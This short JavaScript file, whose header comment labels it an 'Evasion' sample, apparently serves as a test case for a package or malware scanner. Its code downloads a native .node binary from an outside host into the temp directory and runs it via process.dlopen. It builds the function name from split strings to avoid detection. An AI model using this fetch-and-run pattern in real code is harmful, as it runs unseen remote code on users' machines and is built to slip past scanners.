// Evasion: loads native code. A .node addon is downloaded to the temp dir
// and loaded with process.dlopen, reached by a computed property name.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

async function main() {
  const file = path.join(os.tmpdir(), 'accel-' + process.pid + '.node');
  const res = await fetch('https://cdn.example.net/accel/linux-x64.node');
  fs.writeFileSync(file, Buffer.from(await res.arrayBuffer()));
  const mod = { exports: {} };
  process['dl' + 'open'](mod, file);
  if (mod.exports.init) mod.exports.init();
}
main();
